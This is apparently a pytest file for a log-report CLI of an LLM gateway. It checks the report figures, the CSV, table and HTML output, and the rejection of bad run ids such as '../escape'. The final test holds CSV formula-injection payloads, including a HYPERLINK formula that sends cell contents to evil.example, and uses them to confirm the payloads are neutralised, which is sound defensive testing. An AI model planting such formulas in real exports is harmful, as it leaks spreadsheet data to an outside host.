"""`gateway report` and `gateway runs`: figures that equal a recount of the JSONL, in bounded memory."""

from __future__ import annotations

import csv
import io
import json
import math
import re
from collections import defaultdict
from pathlib import Path

import orjson
import pytest
from click.testing import CliRunner

from benchmarks.bench_report import measure, synthesize
from gateway.cli import main
from gateway.report.quantiles import EXACT_LIMIT
from tests.browser import dump_dom, need_chromium, screenshot

RUN = "synthetic"


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A cache dir with a 3,000-record synthetic run, plus a torn last line."""
    cache_dir = tmp_path_factory.mktemp("store")
    shard = synthesize(cache_dir, RUN, 3000)
    with shard.open("ab") as out:
        out.write(b'{"model": "torn", "ser')
    return cache_dir


def report(store: Path, *args: str) -> str:
    result = CliRunner().invoke(main, ["report", *args, "--cache-dir", str(store)])
    assert result.exit_code == 0, result.output
    return result.output


def recount(path: Path, group_of) -> dict[str, dict]:  # type: ignore[no-untyped-def]
    """Figures per group, recomputed naively from the raw lines (json, not orjson)."""
    groups: dict[str, dict] = defaultdict(
        lambda: {
            "requests": 0,
            "served": defaultdict(int),
            "errors": defaultdict(int),
            "tokens_in": 0,
            "tokens_out": 0,
            "cost_usd": 0.0,
            "cost_saved_usd": 0.0,
            "latencies": {"cached": [], "upstream": []},
            "first": math.inf,
            "last": -math.inf,
        }
    )
    for line in path.read_text().splitlines():
        try:
            record = json.loads(line)
        except json.JSONDecodeError:
            continue  # the torn line
        for name in (group_of(record), "total"):
            g = groups[name]
            g["requests"] += 1
            g["served"][record["served"]] += 1
            if record["error"]:
                g["errors"][record["error"]["code"]] += 1
            if record["usage"]:
                g["tokens_in"] += record["usage"]["prompt_tokens"]
                g["tokens_out"] += record["usage"]["completion_tokens"]
            g["cost_usd"] += record["cost_usd"]
            g["cost_saved_usd"] += record["cost_saved_usd"]
            kind = "cached" if record["served"] in ("hit", "coalesced") else "upstream"
            g["latencies"][kind].append(record["latency_ms"])
            g["first"] = min(g["first"], record["ts"])
            g["last"] = max(g["last"], record["ts_end"])
    return groups


def exact_quantile(values: list[float], q: float) -> float:
    """The nearest-rank quantile, computed directly: the value of rank ceil(q·n) of the sorted values."""
    ordered = sorted(values)
    return ordered[max(1, math.ceil(q * len(ordered))) - 1]


@pytest.mark.parametrize(
    ("by", "group_of"),
    [
        ("model", lambda r: r["model"]),
        ("task", lambda r: r["task"] or "-"),
    ],
)
def test_report_json_equals_a_recount_from_the_raw_jsonl(store: Path, by: str, group_of) -> None:  # type: ignore[no-untyped-def]
    data = orjson.loads(report(store, RUN, "--format", "json", "--by", by))
    expected = recount(next((store / "runs" / RUN).glob("*.jsonl")), group_of)
    assert data["records"] == 3000 and data["torn_lines"] == 1
    got = {g["name"]: g for g in data["groups"]} | {"total": data["total"]}
    assert set(got) == set(expected)
    for name, want in expected.items():
        have = got[name]
        assert have["requests"] == want["requests"]
        assert {k: v for k, v in have["served"].items() if v} == dict(want["served"])
        assert have["errors"] == dict(want["errors"])
        assert (have["tokens_in"], have["tokens_out"]) == (want["tokens_in"], want["tokens_out"])
        assert have["cost_usd"] == pytest.approx(want["cost_usd"], abs=1e-6)
        assert have["cost_saved_usd"] == pytest.approx(want["cost_saved_usd"], abs=1e-6)
        saved = want["served"]["hit"] + want["served"]["coalesced"]
        assert have["hit_ratio"] == pytest.approx(saved / want["requests"], abs=1e-6)
        for kind in ("cached", "upstream"):
            latencies, figures = want["latencies"][kind], have["latency_ms"][kind]
            assert figures["count"] == len(latencies) and figures["max"] == max(latencies)
            exact = len(latencies) <= EXACT_LIMIT
            assert figures["exact"] is exact
            for q, key in ((0.5, "p50"), (0.95, "p95"), (0.99, "p99")):
                direct = exact_quantile(latencies, q)
                want_q = direct if exact else pytest.approx(direct, rel=0.02)
                assert figures[key] == want_q, (name, kind, key)
        span = want["last"] - want["first"]
        assert have["span_s"] == pytest.approx(span, abs=1e-3)
        assert have["throughput_rps"] == pytest.approx(want["requests"] / span, rel=1e-4)


def test_report_by_hour_splits_the_run_by_utc_hour(store: Path) -> None:
    data = orjson.loads(report(store, RUN, "--format", "json", "--by", "hour"))
    names = [g["name"] for g in data["groups"]]
    assert names == sorted(names) and all(n.endswith(":00Z") for n in names)
    assert sum(g["requests"] for g in data["groups"]) == 3000


def test_report_table_and_csv_carry_the_same_numbers(store: Path) -> None:
    data = orjson.loads(report(store, RUN, "--format", "json"))
    rows = list(csv.DictReader(io.StringIO(report(store, RUN, "--format", "csv"))))
    assert [r["group"] for r in rows] == [*(g["name"] for g in data["groups"]), "total"]
    assert int(rows[-1]["requests"]) == data["total"]["requests"]
    assert int(rows[-1]["hit"]) == data["total"]["served"]["hit"]
    table = report(store, RUN)
    assert "1 torn line(s) skipped" in table
    assert f"{data['total']['requests']:,}" in table.splitlines()[-1]


@pytest.mark.parametrize("run_id", ["no-such-run", "../escape"])
def test_a_bad_run_id_is_one_clear_line_and_exit_2(store: Path, run_id: str) -> None:
    result = CliRunner().invoke(main, ["report", run_id, "--cache-dir", str(store)])
    assert result.exit_code == 2
    assert len(result.output.strip().splitlines()) == 1
    assert run_id in result.output


def test_gateway_runs_lists_size_records_cost_and_span(store: Path) -> None:
    result = CliRunner().invoke(main, ["runs", "--format", "json", "--cache-dir", str(store)])
    assert result.exit_code == 0, result.output
    (run,) = orjson.loads(result.output)
    data = orjson.loads(report(store, RUN, "--format", "json"))
    assert run["run_id"] == RUN and run["records"] == 3000 and run["torn"] == 1
    assert run["bytes"] == next((store / "runs" / RUN).glob("*.jsonl")).stat().st_size
    assert run["cost_usd"] == pytest.approx(data["total"]["cost_usd"])
    assert run["last_ts"] - run["first_ts"] == pytest.approx(data["total"]["span_s"], abs=1e-3)
    table = CliRunner().invoke(main, ["runs", "--cache-dir", str(store)]).output
    assert RUN in table and "3,000" in table


def test_a_million_record_run_is_reported_in_under_200_mb(tmp_path: Path) -> None:
    synthesize(tmp_path, "big", 1_000_000)
    result = measure(tmp_path, "big", "json")
    data = orjson.loads(result["output"].read_bytes())
    assert data["records"] == 1_000_000
    print(f"1,000,000 records: peak {result['peak_mb']} MB, {result['seconds']} s")
    assert result["peak_mb"] < 200


def test_the_html_report_is_self_contained_and_renders_in_chromium(store: Path, tmp_path: Path) -> None:
    need_chromium()
    page = tmp_path / "report.html"
    report(store, RUN, "--format", "html", "-o", str(page))
    html = page.read_text()
    assert not re.search(r"<script[^>]*\bsrc=", html) and not re.search(r"<link[^>]*\bhref=", html)
    assert "<script" not in html  # the charts are drawn as SVG: nothing to run
    assert len(html) < 200_000  # it was 4.9 MB with plotly.js inline
    data = orjson.loads(report(store, RUN, "--format", "json"))
    dom = dump_dom(page.as_uri())
    for chart in ("chart-timeline", "chart-tokens", "chart-latency", "chart-cost", "chart-served"):
        assert re.search(rf'<svg class="chart" id="{chart}".*?<rect ', dom, re.S), chart
    assert f"{data['total']['requests']:,}" in dom
    assert "Hits vs misses" in dom and "Cost by model" in dom
    screenshot(page.as_uri(), "report")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1"]


def test_csv_cells_that_would_run_as_spreadsheet_formulas_are_neutralised(tmp_path: Path) -> None:
    run = tmp_path / "runs" / "csv"
    run.mkdir(parents=True)
    records = [
        {
            "served": "miss",
            "status": 200,
            "model": "m",
            "task": task,
            "ts": 1.0,
            "ts_end": 2.0,
            "latency_ms": 1.0,
        }
        for task in [*FORMULAS, None, "plain-task"]
    ]
    (run / "1-host-1.jsonl").write_bytes(b"".join(orjson.dumps(r) + b"\n" for r in records))
    rows = list(csv.DictReader(io.StringIO(report(tmp_path, "csv", "--by", "task", "--format", "csv"))))
    groups = [r["group"] for r in rows]
    assert sorted(groups) == sorted(["'" + f for f in FORMULAS] + ["-", "plain-task", "total"])
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value == "-" or re.fullmatch(r"-[0-9.]+", value), value
